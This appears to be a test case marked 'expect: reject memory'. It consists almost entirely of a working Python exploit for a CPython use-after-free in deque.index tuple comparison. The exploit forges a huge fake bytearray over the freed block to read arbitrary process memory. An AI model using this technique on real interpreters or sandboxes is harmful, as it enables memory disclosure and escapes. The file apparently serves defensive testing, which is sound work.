# expect: reject memory
# line: 18
# why: round 67: library comparisons written in Python run the program's code with no comparison dunder of its own (Fraction reads a number subclass's numerator, imag, as_integer_ratio; ChainMap's Mapping.__eq__ iterates its maps; a dataclass's generated __eq__ reads a property field); a True answer lets the tuple compare of gh-120298/gh-115243 go on reading the freed tuple (raw memory under 3.11.2)
import collections
import fractions

keep = []
dq = collections.deque()
state = {"n": 0, "payload": b""}
N = 25


class F(float):
    __slots__ = ()

    @property
    def imag(self):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        else:
            keep.append(self)
        return 0


def w8(v):
    return v.to_bytes(8, "little")


dq.append(tuple([fractions.Fraction(1), 0] + [0] * (N - 2)))
taddr = id(dq[0])
fake = taddr + 48
# the bytearray buffer takes the freed tuple's 240-byte block: buffer[i] is block+i,
# the tuple object is block+16, its item 1 is block+48; a fake F sits at block+64
words = [0, 0, 0, 0, 0, 0, fake - 16 + 16, 0, 1 << 40, id(F), 0x4000000000000000]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([F(1.0), fractions.Fraction(1)] + [0] * (N - 2)))
except (RuntimeError, ValueError) as e:
    print(type(e).__name__, e)
print(len(keep), [type(k).__name__ for k in keep])
B = keep[0]
# turn the fake F (block+64) into a bytearray header: ob_size 2**62, ob_start NULL
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = keep[1]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
